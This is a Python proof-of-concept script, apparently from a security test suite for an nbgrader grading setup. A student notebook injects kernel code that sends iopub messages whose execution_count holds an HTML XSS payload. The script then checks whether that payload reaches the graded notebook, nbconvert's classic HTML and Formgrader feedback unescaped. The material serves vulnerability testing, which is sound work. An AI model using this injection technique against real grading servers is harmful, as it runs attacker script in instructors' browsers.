"""a02: the kernel sends an iopub message whose execution_count is an HTML string (nbclient copies any
`execution_count` of any iopub message into cell['execution_count']; nbconvert's classic template, which
Formgrader's page extends, prints it unescaped: `In&nbsp;[{{ cell.execution_count|replace(None, "&nbsp;") }}]`)."""
import re, sys
from harness import *
PAYLOAD = '<img src=x onerror="document.title=\'PWNED-A02\'">'
INJECT = r'''
def _a02():
    k = get_ipython().kernel
    parent = k.get_parent("shell") if hasattr(k, "get_parent") else k._parent_header
    k.session.send(k.iopub_socket, "execute_input", {"code": "", "execution_count": PAYLOAD}, parent=parent,
                   ident=k._topic("execute_input"))
    k.session.send(k.iopub_socket, "execute_result", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": PAYLOAD},
                   parent=parent, ident=k._topic("execute_result"))
_a02()
'''.replace("PAYLOAD", repr(PAYLOAD))
if __name__ == "__main__":
    d = make_course("a02")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") in ("training_memory", "written_ddp_fit"):
            if c.cell_type == "code":
                c.source = c.source + "\n" + INJECT
            else:
                c.source = "DDP keeps a full replica on each device."
    put(d, "mallory", nb)
    put(d, "zoe", solution_nb())
    grade(d)
    scores(d); canary_scan(d)
    p = f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb"
    raw = open(p).read() if os.path.exists(p) else ""
    print("payload in graded notebook:", PAYLOAD in raw)
    for m in re.finditer(r'"execution_count": ("[^\n]*)', raw): print("  ", m.group(0)[:200])
    # render as Formgrader does (its formgrade template extends nbconvert's classic)
    if raw:
        from nbconvert import HTMLExporter
        html, _ = HTMLExporter(template_name="classic").from_notebook_node(nbformat.reads(raw, as_version=4))
        print("payload raw in classic HTML:", PAYLOAD in html)
        open(f"tests/attacks/round38/a02_classic.html", "w").write(html)
    fb = f"{d}/feedback/mallory/ps1_memory/ps1_memory.html"
    if os.path.exists(fb):
        print("payload raw in feedback HTML:", PAYLOAD in open(fb).read())
